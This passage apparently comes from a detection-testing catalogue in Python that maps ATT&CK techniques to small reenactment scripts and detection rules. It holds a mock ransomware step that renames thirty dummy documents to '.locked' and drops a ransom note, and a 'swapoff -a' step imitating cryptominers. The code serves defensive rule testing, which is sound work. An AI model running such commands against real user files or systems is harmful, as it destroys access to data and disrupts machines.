        title="a binary in /tmp renames thirty documents to .locked and leaves a ransom note",
        script="""\
mkdir -p /home/reenact/Documents
for i in $(seq 1 30); do echo "page $i" > "/home/reenact/Documents/doc$i.txt"; done
cp "$(type -P perl)" "$T/locker"
"$T/locker" -e 'for my $f (glob "/home/reenact/Documents/*.txt") { rename $f, "$f.locked" }
open(my $n, ">", "/home/reenact/Documents/README_restore.txt") or die; print $n "pay\\n"; close $n;'""",
        rules=(
            _dr("impact_potential_linux_ransomware_note_detected", "c8935a8b-634a-4449-98f7-bb24d3b2c0af"),
        ),
        tools=("mkdir", "seq", "cp", "perl"),
        overlays=("/home",),
    ),
    Technique(
        id="swap-disable",
        attack="T1496.001",
        tactic="impact",
        title="turn swap off (swapoff -a), as miners do before they start",
        script="swapoff -a",
        rules=(_dr("impact_memory_swap_modification", "5e4023e7-6357-4061-ae1c-9df33e78c674"),),
        standins=("swapoff",),
    ),
)


def technique(technique_id: str) -> Technique:
    """Return a technique by id (KeyError when absent)."""
    for t in TECHNIQUES:
        if t.id == technique_id:
            return t
    raise KeyError(technique_id)
